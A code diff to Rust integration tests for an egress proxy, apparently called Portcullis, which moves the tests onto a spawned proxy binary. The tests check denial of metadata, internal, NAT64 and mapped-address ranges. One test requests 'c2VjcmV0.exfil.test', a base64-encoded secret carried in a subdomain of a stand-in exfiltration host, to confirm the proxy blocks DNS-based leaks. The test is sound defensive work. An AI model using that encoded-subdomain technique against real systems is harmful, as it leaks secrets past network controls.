@@ -14,10 +14,9 @@ use common::*;
 /// registries, plus the other clouds' metadata addresses.
 #[tokio::test]
 async fn registry_blocks_and_cloud_metadata_are_denied_on_both_paths() {
-    let proxy = start_proxy(
-        "roles:\n  default:\n    mode: open\n    allow:\n      http_ports: [80]\n      connect_ports: [443]\n",
-    )
-    .await;
+    let yaml = "roles:\n  default:\n    mode: open\n    allow:\n      http_ports: [80]\n      connect_ports: [443]\n";
+    let proxy_binary = BinaryProxy::spawn(&temp_file("address-plan", "proxy1.yaml", ""), yaml).await;
+    let proxy = proxy_binary.addr;
     let cases = [
         ("[5f00::1]", "denied-range:special"),
         ("[3fff::1]", "denied-range:special"),
@@ -52,15 +51,15 @@ async fn internal_ranges_and_nat64_prefixes_through_the_socket() {
     let origin = start_http_origin().await;
     let port = origin.port();
     let dns = start_dns(&[("pod.test", &["127.0.0.2"]), ("web.test", &["127.0.0.1"])]).await;
-    let proxy = start_proxy(&format!(
+    let proxy_binary = BinaryProxy::spawn(&temp_file("address-plan", "proxy2.yaml", ""), &format!(
         "dns:\n  nameservers: [\"{dns}\"]\n  timeout: 1s\n\
          allow_ranges: [127.0.0.0/8]\n\
          internal_ranges: [127.0.0.2/32, \"2600:1f14:abc::/48\"]\n\
          nat64_prefixes: [\"2001:db8:64::/96\"]\n\
          roles:\n  default:\n    mode: open\n    allow:\n      http_ports: [80, {port}]\n      connect_ports: [443, {port}]\n",
         dns = dns.addr
-    ))
-    .await;
+    )).await;
+    let proxy = proxy_binary.addr;
     let denied = [
         (format!("127.0.0.2:{port}"), "denied-range:internal"),
         (format!("pod.test:{port}"), "denied-range:internal"),
@@ -88,10 +87,10 @@ async fn internal_ranges_and_nat64_prefixes_through_the_socket() {
 async fn deny_rule_written_as_a_mapped_prefix_takes_effect() {
     let origin = start_http_origin().await;
     let port = origin.port();
-    let proxy = start_proxy(&format!(
+    let proxy_binary = BinaryProxy::spawn(&temp_file("address-plan", "proxy3.yaml", ""), &format!(
         "allow_ranges: [127.0.0.0/8]\nroles:\n  default:\n    mode: open\n    allow:\n      http_ports: [{port}]\n      connect_ports: [{port}]\n    deny:\n      cidrs: [\"::ffff:127.0.0.2/128\", \"64:ff9b::7f00:3/128\"]\n"
-    ))
-    .await;
+    )).await;
+    let proxy = proxy_binary.addr;
     for host in ["127.0.0.2", "[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "127.0.0.3", "[64:ff9b::127.0.0.3]"] {
         let (resp, _) = connect(proxy, &format!("{host}:{port}")).await;
         assert_eq!((resp.status, resp.header("x-portcullis-deny")), (403, Some("denied-by-role")), "CONNECT {host}");
@@ -115,7 +114,8 @@ async fn unlisted_names_are_not_resolved_when_the_switch_is_off() {
             dns = dns.addr
         )
     };
-    let strict = start_proxy(&config(false)).await;
+    let strict_binary = BinaryProxy::spawn(&temp_file("address-plan", "strict4.yaml", ""), &config(false)).await;
+    let strict = strict_binary.addr;
     let resp = get(strict, &format!("http://c2VjcmV0.exfil.test:{port}/")).await;
     assert_eq!((resp.status, resp.header("x-portcullis-deny")), (403, Some("not-allowlisted")));
     let (resp, _) = connect(strict, &format!("c2VjcmV0.exfil.test:{port}")).await;
@@ -127,7 +127,8 @@ async fn unlisted_names_are_not_resolved_when_the_switch_is_off() {
     let resp = get(strict, &format!("http://listed.test:{port}/headers")).await;
     assert_eq!(resp.status, 200);
 
-    let lenient = start_proxy(&config(true)).await;
+    let lenient_binary = BinaryProxy::spawn(&temp_file("address-plan", "lenient5.yaml", ""), &config(true)).await;
+    let lenient = lenient_binary.addr;
     let resp = get(lenient, &format!("http://c2VjcmV0.exfil.test:{port}/")).await;
     assert_eq!((resp.status, resp.header("x-portcullis-deny")), (403, Some("not-allowlisted")));
     assert!(dns.queries.lock().unwrap().contains_key("c2vjcmv0.exfil.test."), "the default resolves the name");
